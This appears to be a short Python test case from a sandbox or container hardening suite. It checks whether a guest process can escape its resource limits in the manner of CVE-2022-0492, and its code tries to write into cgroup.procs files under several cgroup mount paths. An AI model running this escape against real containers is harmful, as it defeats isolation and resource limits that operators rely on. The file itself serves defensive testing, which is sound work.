# guest: moves itself out of its control groups
# source: runc's cgroup mounts that were writable; CVE-2022-0492's kind
# attacks: the limits
# walls: PivotRoot, Landlock, SlotId, NestIds
# observer: group_left
# oracle: the guest's memory group, read from outside, is not the box's
# status: ok
# credit: ENOENT
import os

from attack import attempt, hold

for root in ("/sys/fs/cgroup", "/run/sys/fs/cgroup"):
    for name in ("memory", "pids", "cpu", "unified", "."):
        path = os.path.join(root, name, "cgroup.procs")
        attempt(path, lambda: os.write(os.open(path, os.O_WRONLY), b"0"))
hold("left")
